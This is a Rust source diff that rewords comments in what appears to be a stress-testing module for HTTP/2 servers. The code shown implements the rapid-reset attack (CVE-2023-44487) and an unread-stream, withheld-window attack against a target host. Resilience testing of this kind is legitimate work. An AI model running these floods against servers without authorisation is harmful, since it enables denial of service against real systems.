@@ -17,7 +17,7 @@ use super::wire::{Wire, modern};
 
 const AGAIN: Duration = Duration::from_millis(100);
 
-/// Requests, each reset at once (CVE-2023-44487), until the host has enough of the connection.
+/// Requests, each reset at once (CVE-2023-44487), until the host closes the connection.
 pub(super) fn rapid_resets(target: &Target) -> LocalBoxFuture<'static, ()> {
     let of = target.clone();
     target.many(4, AGAIN, move |_| {
@@ -26,7 +26,7 @@ pub(super) fn rapid_resets(target: &Target) -> LocalBoxFuture<'static, ()> {
             let mut two = Two::open(&target).await?;
             let mut reset = 0;
             while reset < 10_000 && two.is_open().await {
-                // The host may end the connection at any of these.
+                // The host may close the connection at any of these.
                 let Ok((_, mut stream)) = two.send.send_request(two.request("big__bulk")?, false) else { break };
                 if stream.send_data(Bytes::from(two.message("big__bulk").to_string()), true).is_err() {
                     break;
@@ -39,7 +39,7 @@ pub(super) fn rapid_resets(target: &Target) -> LocalBoxFuture<'static, ()> {
     })
 }
 
-/// As many streams as one connection may have, each with a huge answer for which there is no window.
+/// As many streams as one connection may have, each with a huge response but no window for it.
 pub(super) fn unread(target: &Target) -> LocalBoxFuture<'static, ()> {
     let of = target.clone();
     target.many(4, AGAIN, move |_| {
@@ -58,7 +58,7 @@ pub(super) fn unread(target: &Target) -> LocalBoxFuture<'static, ()> {
                 answers.push(answer);
             }
             for answer in answers {
-                // Some are refused, which is as good.
+                // Some are refused, which is just as well.
                 if let Ok(answer) = answer.await {
                     kept.push(answer.into_body());
                 }
@@ -69,7 +69,7 @@ pub(super) fn unread(target: &Target) -> LocalBoxFuture<'static, ()> {
     })
 }
 
-/// One connection; it ends with this.
+/// One connection; it closes when dropped.
 struct Two {
     send: SendRequest<Bytes>,
     connection: JoinHandle<Result<(), h2::Error>>,
